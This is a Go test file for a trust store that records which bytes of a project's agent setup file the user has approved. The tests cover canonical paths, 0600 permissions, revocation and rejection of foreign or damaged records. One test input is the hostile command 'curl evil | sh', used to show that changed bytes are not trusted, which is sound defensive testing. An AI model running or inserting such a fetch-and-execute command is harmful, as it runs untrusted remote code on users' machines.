package trust

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/sudocode/sudocode/internal/userenv"
)

// A record trusts exactly the bytes it was made from, under the
// project's canonical path (a link to the project finds it), is private
// to the user, and can be revoked.
func TestAllowLookupRevoke(t *testing.T) {
	s, err := Open(userenv.Of([]string{"XDG_STATE_HOME=" + t.TempDir()}))
	if err != nil {
		t.Fatal(err)
	}
	project := t.TempDir()
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(project, link); err != nil {
		t.Fatal(err)
	}
	const file = ".sudocode/agent.json"
	content := []byte(`{"setup": "npm ci"}`)
	if ok, err := trusts(s, project, file, content); ok || err != nil {
		t.Fatalf("trusted before Allow: %v %v", ok, err)
	}
	r, err := s.Allow(link, file, content)
	if err != nil {
		t.Fatal(err)
	}
	if canon, _ := Canonical(project); r.Project != canon || r.SHA256 != Digest(content) {
		t.Errorf("record %+v", r)
	}
	if ok, err := trusts(s, project, file, content); !ok || err != nil {
		t.Errorf("not trusted after Allow: %v %v", ok, err)
	}
	if ok, _ := trusts(s, project, file, []byte(`{"setup": "curl evil | sh"}`)); ok {
		t.Error("other bytes are trusted")
	}
	if ok, _ := trusts(s, t.TempDir(), file, content); ok {
		t.Error("the same bytes in another project are trusted")
	}
	ents, _ := os.ReadDir(s.dir)
	if len(ents) != 1 {
		t.Fatalf("records %v", ents)
	}
	if fi, _ := ents[0].Info(); fi.Mode().Perm() != 0o600 {
		t.Errorf("record mode %v", fi.Mode())
	}
	if ok, err := s.Revoke(project, file); !ok || err != nil {
		t.Fatalf("revoke: %v %v", ok, err)
	}
	if ok, _ := trusts(s, project, file, content); ok {
		t.Error("trusted after Revoke")
	}
	if ok, err := s.Revoke(project, file); ok || err != nil {
		t.Errorf("second revoke: %v %v", ok, err)
	}
}

// A damaged record, or one whose contents name another project, trusts
// nothing.
func TestForeignRecordTrustsNothing(t *testing.T) {
	s, _ := Open(userenv.Of([]string{"XDG_STATE_HOME=" + t.TempDir()}))
	a, b := t.TempDir(), t.TempDir()
	content := []byte(`{"setup": "make"}`)
	if _, err := s.Allow(b, "f", content); err != nil {
		t.Fatal(err)
	}
	ca, _ := Canonical(a)
	cb, _ := Canonical(b)
	rec, _ := os.ReadFile(s.recordPath(cb, "f"))
	os.WriteFile(s.recordPath(ca, "f"), rec, 0o600) // b's record under a's name
	if ok, _ := trusts(s, a, "f", content); ok {
		t.Error("a record of another project trusts this one")
	}
	os.WriteFile(s.recordPath(cb, "f"), []byte("{"), 0o600)
	if ok, _ := trusts(s, b, "f", content); ok {
		t.Error("a damaged record trusts")
	}
}

// trusts reports whether content is what the user trusted as project's
// file.
func trusts(s Store, project, file string, content []byte) (bool, error) {
	r, ok, err := s.Lookup(project, file)
	return ok && r.SHA256 == Digest(content), err
}
